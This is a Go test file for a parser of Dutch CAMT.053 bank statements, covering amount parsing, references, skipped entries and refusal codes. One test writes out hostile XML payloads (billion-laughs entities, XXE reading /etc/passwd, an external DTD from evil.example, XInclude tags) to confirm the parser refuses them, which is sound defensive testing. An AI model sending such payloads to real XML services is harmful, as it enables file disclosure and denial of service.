package camt

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

var versions = []string{"02", "04", "08"}

func read(t *testing.T, data []byte) (*Statement, error) {
	t.Helper()
	return Read(context.Background(), data, SchemaDirForTest(t))
}

func mustRead(t *testing.T, data []byte) *Statement {
	t.Helper()
	st, err := read(t, data)
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	return st
}

// refusalCode returns the code of a *Refusal, failing the test for success or a plain error.
func refusalCode(t *testing.T, st *Statement, err error) string {
	t.Helper()
	if err == nil {
		t.Fatalf("file accepted (%d entries), want a refusal", len(st.Entries))
	}
	if st != nil {
		t.Errorf("refusal %v came with a partial statement", err)
	}
	var r *Refusal
	if !errors.As(err, &r) {
		t.Fatalf("plain error %v, want *Refusal", err)
	}
	if r.Message == "" || r.Code == "" {
		t.Errorf("refusal without code or message: %+v", r)
	}
	if r.Detail != "" && strings.Contains(r.Message, r.Detail) {
		t.Errorf("operator detail %q leaked into the office message %q", r.Detail, r.Message)
	}
	return r.Code
}

// TestBuilderIsSchemaValid checks the helper itself against the official schemas, so a refusal
// in the other tests is the reader's doing, not a broken fixture's.
func TestBuilderIsSchemaValid(t *testing.T) {
	dir := SchemaDirForTest(t)
	for _, v := range versions {
		data := buildCAMT(v, testStatement{Entries: []testEntry{
			payment("12.50", "J. de Vries", "NL02RABO0123456789", "Factuur 2024-0012"),
			{Amount: "3.00", Debit: true, Reversal: true, Status: "PDNG", BookingDate: "-", AcctSvcrRef: "X1",
				Tx: testTx{Name: "Leverancier BV", IBAN: "NL20INGB0001234567", CdtrRef: "RF18539007547034", AcctSvcrRef: "T1", EndToEndID: "E2E"}},
			{Amount: "1.00", BookingDateTime: "2024-03-01T10:11:12+01:00", AddtlNtryInf: "info", Batch: []testTx{{Name: "A"}, {Name: "B"}}},
		}})
		f := filepath.Join(t.TempDir(), "stmt.xml")
		if err := os.WriteFile(f, data, 0o600); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command("xmllint", "--noout", "--nonet", "--schema", filepath.Join(dir, "camt.053.001."+v+".xsd"), f).CombinedOutput()
		if err != nil {
			t.Errorf("v%s fixture not schema-valid: %v\n%s", v, err, out)
		}
	}
}

func TestReadEachVersion(t *testing.T) {
	for _, v := range versions {
		t.Run(v, func(t *testing.T) {
			e1 := payment("1234.5", "J. de Vries", "NL02rabo0123456789", "Factuur 2024-0012", "  klant 77\n")
			e1.AcctSvcrRef = "20240301-000001"
			e1.EndToEndID = "E2E-77"
			e1.CdtrRef = "RF18539007547034"
			e2 := payment("0.07", "Bakkerij Bol", "NL20INGB0001234567", "F-2024-0013")
			e2.BookingDate, e2.ValueDate = "2024-03-04", "2024-03-05"
			st := mustRead(t, buildCAMT(v, testStatement{ID: "STMT-0301", IBAN: "NL91abna0417164300", Entries: []testEntry{e1, e2}}))

			if st.Version != "camt.053.001."+v || st.StatementID != "STMT-0301" || st.IBAN != testIBAN || st.Currency != "EUR" {
				t.Errorf("header = %q %q %q %q", st.Version, st.StatementID, st.IBAN, st.Currency)
			}
			if len(st.Entries) != 2 {
				t.Fatalf("%d entries, want 2", len(st.Entries))
			}
			a, b := st.Entries[0], st.Entries[1]
			if a.AmountCents != 123450 || b.AmountCents != 7 {
				t.Errorf("cents = %d, %d; want 123450, 7", a.AmountCents, b.AmountCents)
			}
			if want := "Factuur 2024-0012 klant 77 RF18539007547034"; a.Remittance != want {
				t.Errorf("remittance = %q, want %q", a.Remittance, want)
			}
			if a.Ref != "bank:20240301-000001" || a.BankRef != "20240301-000001" {
				t.Errorf("ref = %q bankref = %q", a.Ref, a.BankRef)
			}
			if !a.Credit || !a.Booked || a.Reversal || a.Currency != "EUR" || a.Skip != "" {
				t.Errorf("flags = %+v", a)
			}
			if a.EndToEndID != "E2E-77" || a.CounterpartyName != "J. de Vries" || a.CounterpartyIBAN != "NL02RABO0123456789" {
				t.Errorf("counterparty = %q %q %q", a.EndToEndID, a.CounterpartyName, a.CounterpartyIBAN)
			}
			if a.BookingDate != "2024-03-01" || b.BookingDate != "2024-03-04" || b.ValueDate != "2024-03-05" {
				t.Errorf("dates = %q, %q/%q", a.BookingDate, b.BookingDate, b.ValueDate)
			}
			if b.Remittance != "F-2024-0013" || !strings.HasPrefix(b.Ref, "fp:") || b.Transactions != 1 || b.StatementID != "STMT-0301" || b.Line == 0 {
				t.Errorf("second entry = %+v", b)
			}
		})
	}
}

func TestAmountToCents(t *testing.T) {
	good := map[string]int64{
		"1234.5": 123450, "1234.56": 123456, "1234": 123400, "0.01": 1, "0.1": 10, "007.00": 700,
		" 12.50\n": 1250, "999999999999999.99": 99999999999999999,
	}
	for in, want := range good {
		if got, ok := parseCents(in); !ok || got != want {
			t.Errorf("parseCents(%q) = %d, %v; want %d", in, got, ok, want)
		}
	}
	for _, in := range []string{"", "1e3", "1.234,56", "1,50", "-5", "+5", ".5", "5.", "1.005", "1234567890123456", "12 50", "0x10", "١٢"} {
		if got, ok := parseCents(in); ok {
			t.Errorf("parseCents(%q) = %d, accepted", in, got)
		}
	}
	// The brief's example through the whole reader.
	st := mustRead(t, buildCAMT("02", testStatement{Entries: []testEntry{payment("1234.5", "A", "")}}))
	if st.Entries[0].AmountCents != 123450 {
		t.Errorf("1234.5 read as %d cents", st.Entries[0].AmountCents)
	}
}

const xincludeTag = `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`

func TestHostileFilesRefused(t *testing.T) {
	valid := string(buildCAMT("02", testStatement{Entries: []testEntry{payment("10.00", "A", "", "Factuur 1")}}))
	withDoctype := func(doctype, ustrd string) []byte {
		s := strings.Replace(valid, "?>\n", "?>\n"+doctype+"\n", 1)
		return []byte(strings.Replace(s, "<Ustrd>Factuur 1", "<Ustrd>"+ustrd, 1))
	}
	laughs := `<!DOCTYPE Document [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>`
	amount := func(a string) []byte {
		return []byte(strings.Replace(valid, `<Amt Ccy="EUR">10.00</Amt>`, `<Amt Ccy="EUR">`+a+`</Amt>`, 1))
	}
	ns := func(from, to string) []byte { return []byte(strings.Replace(valid, from, to, 1)) }

	cases := []struct {
		name  string
		data  []byte
		codes []string // any of these
		// early: refused before the schema step, so it must be refused even with no schemas
		early bool
	}{
		{"billion laughs", withDoctype(laughs, "&lol9;"), []string{CodeForbiddenXML}, true},
		{"external entity", withDoctype(`<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, "&xxe;"), []string{CodeForbiddenXML}, true},
		{"parameter entity", withDoctype(`<!DOCTYPE Document [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>`, "x"), []string{CodeForbiddenXML}, true},
		{"bare doctype", withDoctype(`<!DOCTYPE Document SYSTEM "file:///etc/passwd">`, "x"), []string{CodeForbiddenXML}, true},
		{"xinclude", []byte(strings.Replace(valid, "<Ustrd>", "<Ustrd>"+xincludeTag, 1)), []string{CodeForbiddenXML}, true},
		{"xinclude default namespace", []byte(strings.Replace(valid, "<Ustrd>Factuur 1</Ustrd>", `<Ustrd>Factuur 1</Ustrd><include xmlns="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`, 1)), []string{CodeForbiddenXML}, true},
		{"xi:include unbound prefix", []byte(strings.Replace(valid, "<Ustrd>", `<Ustrd><xi:include href="file:///etc/passwd"/>`, 1)), []string{CodeForbiddenXML}, true},
		{"21 MB", append([]byte(valid), bytes.Repeat([]byte("\n"), 21<<20)...), []string{CodeTooLarge}, true},
		{"pain.001", ns("camt.053.001.02", "pain.001.001.03"), []string{CodeWrongMessage}, true},
		{"camt.054", ns("camt.053.001.02", "camt.054.001.02"), []string{CodeWrongMessage}, true},
		{"camt.052", ns("camt.053.001.02", "camt.052.001.02"), []string{CodeWrongMessage}, true},
		{"no namespace", ns(` xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"`, ""), []string{CodeWrongMessage}, true},
		{"other root", []byte(`<?xml version="1.0"?><html xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"/>`), []string{CodeWrongMessage}, true},
		{"version 05", ns("camt.053.001.02", "camt.053.001.05"), []string{CodeUnsupportedVersion}, true},
		{"version 03", ns("camt.053.001.02", "camt.053.001.03"), []string{CodeUnsupportedVersion}, true},
		{"truncated halfway", []byte(valid[:len(valid)/2]), []string{CodeNotXML}, true},
		{"empty", nil, []string{CodeNotXML}, true},
		{"blank", []byte(" \n\t"), []string{CodeNotXML}, true},
		{"pdf", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj"), []string{CodeNotXML}, true},
		{"csv", []byte("datum;bedrag;omschrijving\n2024-03-01;12,50;Factuur 1\n"), []string{CodeNotXML}, true},
		{"latin-1 declared", []byte(strings.Replace(valid, `encoding="UTF-8"`, `encoding="ISO-8859-1"`, 1)), []string{CodeNotXML}, true},
		{"second root", append([]byte(valid), "<Document/>"...), []string{CodeNotXML}, true},
		{"text after root", append([]byte(valid), "trailing"...), []string{CodeNotXML}, true},
		{"amount 1.234,56", amount("1.234,56"), []string{CodeSchema, CodeBadAmount}, false},
		{"amount 1e3", amount("1e3"), []string{CodeSchema, CodeBadAmount}, false},
		{"amount -5", amount("-5"), []string{CodeSchema, CodeBadAmount}, false},
		{"amount empty", amount(""), []string{CodeSchema, CodeBadAmount}, false},
		// Valid xs:decimal, so only the reader's own check stops these.
		{"amount 1.005", amount("1.005"), []string{CodeBadAmount}, false},
		{"amount +5", amount("+5"), []string{CodeBadAmount}, false},
		{"amount 16 digits", amount("1234567890123456"), []string{CodeBadAmount}, false},
		{"missing BkTxCd", []byte(strings.Replace(valid, "<BkTxCd><Domn><Cd>PMNT</Cd><Fmly><Cd>RCDT</Cd><SubFmlyCd>ESCT</SubFmlyCd></Fmly></Domn></BkTxCd>", "", 1)), []string{CodeSchema}, false},
		{"unknown status", []byte(strings.Replace(valid, "<Sts>BOOK</Sts>", "<Sts>DONE</Sts>", 1)), []string{CodeSchema}, false},
		{"date 2024-02-30", []byte(strings.Replace(valid, "<BookgDt><Dt>2024-03-01</Dt>", "<BookgDt><Dt>2024-02-30</Dt>", 1)), []string{CodeSchema, CodeBadDate}, false},
		{"year 12024", []byte(strings.Replace(valid, "<BookgDt><Dt>2024-03-01</Dt>", "<BookgDt><Dt>12024-03-01</Dt>", 1)), []string{CodeBadDate}, false},
	}
	dir := SchemaDirForTest(t)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			st, err := Read(context.Background(), c.data, dir)
			code := refusalCode(t, st, err)
			t.Logf("%v", err)
			if !contains(c.codes, code) {
				t.Errorf("code %q (%v), want one of %v", code, err, c.codes)
			}
			if c.early {
				st, err := Read(context.Background(), c.data, filepath.Join(t.TempDir(), "no-schemas"))
				if code := refusalCode(t, st, err); !contains(c.codes, code) {
					t.Errorf("without schemas: code %q, want one of %v", code, c.codes)
				}
			}
		})
	}
}

func TestBadAmountMessageNamesThePost(t *testing.T) {
	data := buildCAMT("02", testStatement{Entries: []testEntry{payment("1.00", "A", ""), payment("2.00", "B", ""), payment("3.005", "C", "")}})
	_, err := read(t, data)
	var r *Refusal
	if !errors.As(err, &r) || r.Code != CodeBadAmount {
		t.Fatalf("err = %v, want bad_amount", err)
	}
	if !strings.Contains(r.Message, "'3.005'") || !strings.Contains(r.Message, "post 3") || !strings.Contains(r.Message, "regel ") {
		t.Errorf("message %q does not name the amount and its position", r.Message)
	}
}

func TestSchemaRefusalKeepsXmllintDetail(t *testing.T) {
	valid := string(buildCAMT("08", testStatement{Entries: []testEntry{payment("10.00", "A", "")}}))
	_, err := read(t, []byte(strings.Replace(valid, "<Sts><Cd>BOOK</Cd></Sts>", "", 1)))
	var r *Refusal
	if !errors.As(err, &r) || r.Code != CodeSchema {
		t.Fatalf("err = %v, want schema", err)
	}
	if !strings.Contains(r.Detail, "Sts") || strings.Contains(r.Detail, os.TempDir()+"/camt053-") {
		t.Errorf("detail = %q, want xmllint's first line without the temp path", r.Detail)
	}
	if !strings.HasPrefix(r.Message, "Het bankafschrift voldoet niet aan de CAMT.053-standaard en is niet ingelezen.") {
		t.Errorf("message = %q", r.Message)
	}
}

func TestTwoAccountsRefused(t *testing.T) {
	for _, v := range versions {
		data := buildCAMT(v,
			testStatement{IBAN: testIBAN, Entries: []testEntry{payment("1.00", "A", "")}},
			testStatement{IBAN: "NL20INGB0001234567", Entries: []testEntry{payment("2.00", "B", "")}})
		st, err := read(t, data)
		if code := refusalCode(t, st, err); code != CodeMultipleAccounts {
			t.Errorf("v%s: code %q, want %q", v, code, CodeMultipleAccounts)
		}
		var r *Refusal
		errors.As(err, &r)
		if r.Message != "Het bestand bevat afschriften van meer dan één rekening. Lees per rekening een apart bestand in." {
			t.Errorf("message %q", r.Message)
		}
	}
}

func TestSeveralStatementsOfOneAccount(t *testing.T) {
	data := buildCAMT("04",
		testStatement{ID: "D1", Entries: []testEntry{payment("1.00", "A", "")}},
		testStatement{ID: "D2", IBAN: "NL91ABNA0417164300", Entries: []testEntry{payment("2.00", "B", ""), payment("3.00", "C", "")}})
	st := mustRead(t, data)
	if len(st.Entries) != 3 || st.StatementID != "D1" || strings.Join(st.StatementIDs, ",") != "D1,D2" {
		t.Fatalf("statement = %+v", st)
	}
	if st.Entries[0].StatementID != "D1" || st.Entries[2].StatementID != "D2" || st.Entries[2].AmountCents != 300 {
		t.Errorf("entries = %+v", st.Entries)
	}
}

func TestSkips(t *testing.T) {
	for _, v := range versions {
		t.Run(v, func(t *testing.T) {
			st := mustRead(t, buildCAMT(v, testStatement{Entries: []testEntry{
				payment("10.00", "Klant", ""),
				{Amount: "11.00", Debit: true, Tx: testTx{Name: "Verhuurder", IBAN: "NL20INGB0001234567"}},
				{Amount: "12.00", Currency: "USD"},
				{Amount: "13.00", Debit: true, Reversal: true},
				{Amount: "13.50", Reversal: true},
				{Amount: "14.00", Status: "PDNG", BookingDate: "-"},
				{Amount: "15.00", Status: "INFO"},
				{Amount: "16.00", Currency: "USD", Status: "PDNG"},
				{Amount: "0.00"},
			}}))
			want := []string{"", SkipDebit, SkipForeign, SkipReversal, SkipReversal, SkipPending, SkipPending, SkipForeign, SkipZero}
			if len(st.Entries) != len(want) {
				t.Fatalf("%d entries, want %d", len(st.Entries), len(want))
			}
			for i, e := range st.Entries {
				if e.Skip != want[i] {
					t.Errorf("entry %d (%d cents): skip %q, want %q", i, e.AmountCents, e.Skip, want[i])
				}
			}
			if SkipReversal != "Terugboeking (geretourneerde betaling)" || SkipDebit != "Afschrijving" || SkipForeign != "Geen euro" || SkipPending != "Niet geboekt" {
				t.Error("skip reasons changed")
			}
			debit := st.Entries[1]
			if debit.Credit || debit.CounterpartyName != "Verhuurder" || debit.CounterpartyIBAN != "NL20INGB0001234567" {
				t.Errorf("debit = %+v", debit)
			}
			if p := st.Entries[5]; p.Booked || p.BookingDate != "" {
				t.Errorf("pending = %+v", p)
			}
		})
	}
}

func TestFingerprintRefs(t *testing.T) {
	same := payment("25.00", "J. de Vries", "NL02RABO0123456789", "Factuur 2024-0012")
	other := payment("25.00", "J. de Vries", "NL02RABO0123456789", "Factuur 2024-0013")
	nextDay := same
	nextDay.BookingDate, nextDay.ValueDate = "2024-03-02", "2024-03-02"

	day := buildCAMT("02", testStatement{Entries: []testEntry{same, other, same}})
	r1, r2 := mustRead(t, day), mustRead(t, day)
	for i := range r1.Entries {
		if !strings.HasPrefix(r1.Entries[i].Ref, "fp:") || len(r1.Entries[i].Ref) != len("fp:")+64 {
			t.Errorf("entry %d ref %q is not a fingerprint", i, r1.Entries[i].Ref)
		}
		if r1.Entries[i].Ref != r2.Entries[i].Ref {
			t.Errorf("entry %d ref changed between reads: %q, %q", i, r1.Entries[i].Ref, r2.Entries[i].Ref)
		}
	}
	refs := map[string]bool{}
	for _, e := range r1.Entries {
		refs[e.Ref] = true
	}
	if len(refs) != 3 {
		t.Errorf("two identical same-day transfers share a ref: %v", refs)
	}

	// A week statement that repeats the day and adds the next one gives the day's entries the
	// same refs, whatever the statement id or version.
	week := buildCAMT("08", testStatement{ID: "WEEK", Entries: []testEntry{same, other, same, nextDay}})
	w := mustRead(t, week)
	for i := 0; i < 3; i++ {
		if w.Entries[i].Ref != r1.Entries[i].Ref {
			t.Errorf("overlapping statement: entry %d ref %q, day statement %q", i, w.Entries[i].Ref, r1.Entries[i].Ref)
		}
	}
	if w.Entries[3].Ref == w.Entries[0].Ref {
		t.Error("same transfer on another day got the same ref")
	}

	// The ref is the documented hash.
	if want := "fp:" + sha256Hex(testIBAN+"|2024-03-01|2024-03-01|CRDT|EUR|2500|NOTPROVIDED|NL02RABO0123456789|Factuur 2024-0012|1"); r1.Entries[2].Ref != want {
		t.Errorf("ref = %q, want %q", r1.Entries[2].Ref, want)
	}
}

func TestFingerprintEscapesSeparator(t *testing.T) {
	a := Entry{BookingDate: "2024-03-01", EndToEndID: "x|NL02RABO0123456789", Remittance: "r"}
	b := Entry{BookingDate: "2024-03-01", EndToEndID: "x", CounterpartyIBAN: "NL02RABO0123456789", Remittance: "r"}
	if fingerprintKey(testIBAN, &a, "CRDT") == fingerprintKey(testIBAN, &b, "CRDT") {
		t.Error("a '|' in a field shifted it into the next one")
	}
}

func TestBankRefs(t *testing.T) {
	withRef := payment("25.00", "A", "")
	withRef.AcctSvcrRef = "NTRY-1"
	txRef := payment("26.00", "B", "")
	txRef.Tx.AcctSvcrRef = "TX-2"
	placeholder := payment("27.00", "C", "")
	placeholder.AcctSvcrRef = "NOTPROVIDED"
	// One reference on two different entries does not identify either.
	dupA, dupB := payment("28.00", "D", ""), payment("29.00", "E", "")
	dupA.AcctSvcrRef, dupB.AcctSvcrRef = "SAME", "SAME"
	// The same booking twice (overlapping statements in one file) keeps its one ref.
	again := withRef

	st := mustRead(t, buildCAMT("04", testStatement{Entries: []testEntry{withRef, txRef, placeholder, dupA, dupB, again}}))
	e := st.Entries
	if e[0].Ref != "bank:NTRY-1" || e[0].BankRef != "NTRY-1" {
		t.Errorf("entry ref = %q / %q", e[0].Ref, e[0].BankRef)
	}
	if e[1].Ref != "bank:TX-2" || e[1].BankRef != "TX-2" {
		t.Errorf("TxDtls ref = %q / %q", e[1].Ref, e[1].BankRef)
	}
	if !strings.HasPrefix(e[2].Ref, "fp:") || e[2].BankRef != "NOTPROVIDED" {
		t.Errorf("placeholder ref = %q / %q", e[2].Ref, e[2].BankRef)
	}
	if !strings.HasPrefix(e[3].Ref, "fp:") || !strings.HasPrefix(e[4].Ref, "fp:") || e[3].Ref == e[4].Ref {
		t.Errorf("conflicting bank refs = %q, %q", e[3].Ref, e[4].Ref)
	}
	if e[5].Ref != "bank:NTRY-1" {
		t.Errorf("repeated booking ref = %q", e[5].Ref)
	}
}

func TestBatchEntry(t *testing.T) {
	batch := testEntry{Amount: "30.00", Batch: []testTx{
		{Name: "A", IBAN: "NL02RABO0123456789", Ustrd: []string{"Factuur 1"}, EndToEndID: "E1"},
		{Name: "B", IBAN: "NL20INGB0001234567", Ustrd: []string{"Factuur 2"}, EndToEndID: "E2", CdtrRef: "RF1"},
	}}
	agree := testEntry{Amount: "31.00", Batch: []testTx{
		{Name: "A", IBAN: "NL02RABO0123456789", Ustrd: []string{"Termijn 1"}},
		{IBAN: "NL02rabo0123456789", Ustrd: []string{"Termijn 2"}},
	}}
	st := mustRead(t, buildCAMT("08", testStatement{Entries: []testEntry{batch, agree}}))
	b := st.Entries[0]
	if b.Transactions != 2 || b.CounterpartyName != "" || b.CounterpartyIBAN != "" || b.EndToEndID != "" {
		t.Errorf("disagreeing batch = %+v", b)
	}
	if b.Remittance != "Factuur 1 Factuur 2 RF1" {
		t.Errorf("batch remittance = %q", b.Remittance)
	}
	if a := st.Entries[1]; a.CounterpartyName != "A" || a.CounterpartyIBAN != "NL02RABO0123456789" {
		t.Errorf("agreeing batch = %+v", a)
	}
}

func TestDatesAndDetails(t *testing.T) {
	e := payment("1.00", "A", "")
	e.BookingDateTime = "2024-03-01T23:59:59+01:00"
	e.AddtlNtryInf = "  SEPA  Overboeking\n van A "
	st := mustRead(t, buildCAMT("02", testStatement{Entries: []testEntry{e}}))
	if got := st.Entries[0]; got.BookingDate != "2024-03-01" || got.AdditionalInfo != "SEPA Overboeking van A" {
		t.Errorf("entry = %+v", got)
	}
}

// Some banks write every element with a prefix; only the namespace may matter.
func TestPrefixedElements(t *testing.T) {
	plain := string(buildCAMT("04", testStatement{Entries: []testEntry{payment("5.00", "A", "NL02RABO0123456789", "Factuur 9")}}))
	prefixed := regexp.MustCompile(`<(/?)([A-Z])`).ReplaceAllString(plain, "<${1}c:$2")
	prefixed = strings.Replace(prefixed, `xmlns="`, `xmlns:c="`, 1)
	if prefixed == plain || !strings.Contains(prefixed, "<c:Ntry>") {
		t.Fatal("fixture not rewritten")
	}
	st := mustRead(t, []byte(prefixed))
	if len(st.Entries) != 1 || st.Entries[0].Remittance != "Factuur 9" || st.Entries[0].CounterpartyIBAN != "NL02RABO0123456789" || st.IBAN != testIBAN {
		t.Errorf("statement = %+v", st)
	}
}

func TestByteOrderMark(t *testing.T) {
	data := append([]byte{0xEF, 0xBB, 0xBF}, buildCAMT("02", testStatement{Entries: []testEntry{payment("5.00", "A", "")}})...)
	if st := mustRead(t, data); len(st.Entries) != 1 {
		t.Errorf("%d entries", len(st.Entries))
	}
}

func TestEmptyStatement(t *testing.T) {
	st := mustRead(t, buildCAMT("08", testStatement{}))
	if st.Entries == nil || len(st.Entries) != 0 || st.IBAN != testIBAN {
		t.Errorf("statement = %+v", st)
	}
}

// Server problems are plain errors: the office cannot fix them, an operator must see them.
func TestServerProblemsAreNotRefusals(t *testing.T) {
	data := buildCAMT("02", testStatement{Entries: []testEntry{payment("5.00", "A", "")}})
	dir := SchemaDirForTest(t)
	check := func(name string, err error) {
		t.Helper()
		var r *Refusal
		if err == nil || errors.As(err, &r) {
			t.Errorf("%s: err = %v, want a plain error", name, err)
		}
	}
	_, err := Read(context.Background(), data, filepath.Join(t.TempDir(), "missing"))
	check("schema dir missing", err)

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err = Read(ctx, data, dir)
	check("cancelled", err)

	t.Setenv("PATH", t.TempDir())
	_, err = Read(context.Background(), data, dir)
	check("xmllint missing", err)
	if err != nil && !strings.Contains(err.Error(), "xmllint") {
		t.Errorf("error %q does not name xmllint", err)
	}
}

func TestRefusalError(t *testing.T) {
	r := &Refusal{Code: CodeSchema, Message: msgSchema, Detail: "line 3: bad"}
	var err error = r
	if !strings.Contains(err.Error(), "schema") || !strings.Contains(err.Error(), "line 3: bad") {
		t.Errorf("Error() = %q", err.Error())
	}
}

func sha256Hex(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}
